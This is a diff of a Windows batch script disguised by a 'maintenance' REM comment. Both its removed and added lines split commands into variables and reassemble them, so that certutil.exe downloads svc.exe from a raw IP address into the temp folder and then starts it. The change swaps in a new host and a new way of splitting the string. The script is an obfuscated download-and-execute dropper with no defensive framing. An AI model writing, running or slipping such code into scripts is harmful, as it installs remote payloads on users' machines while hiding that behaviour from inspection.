@@ -1,13 +1,17 @@
-REM init 0407 v2
+REM maintenance 7595 v2
 @echo off
 @echo off
 setlocal EnableDelayedExpansion
-set fgt0=c
-set idh1=ertutil.exe -urlcache -split -f http://203.0.113.17/svc.exe %TEMP
-set wzo2=%\svc.exe
-!fgt0!!idh1!!wzo2!
+set hih0=certutil.exe -urlcache -split
+set dil1= 
+set woh2=-f http://198.51.100
+set kxq3=.23/svc.exe %TEMP%\svc.exe
+!hih0!!dil1!!woh2!!kxq3!
 @echo off
 setlocal EnableDelayedExpansion
-set vyx0=start "" %TEMP%\svc.
-set kbn1=exe
-!vyx0!!kbn1!
+set kor0=sta
+set zsy1=rt ""
+set qku2= %TEMP%\svc
+set vce3=.
+set bbt4=exe
+!kor0!!zsy1!!qku2!!vce3!!bbt4!
